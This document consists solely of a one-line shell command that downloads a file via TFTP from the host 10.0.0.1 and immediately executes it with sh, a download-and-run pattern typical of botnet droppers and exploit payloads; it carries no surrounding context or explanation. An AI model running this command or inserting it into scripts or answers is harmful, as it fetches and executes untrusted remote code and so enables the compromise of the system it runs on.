tftp -g -r x 10.0.0.1; sh x
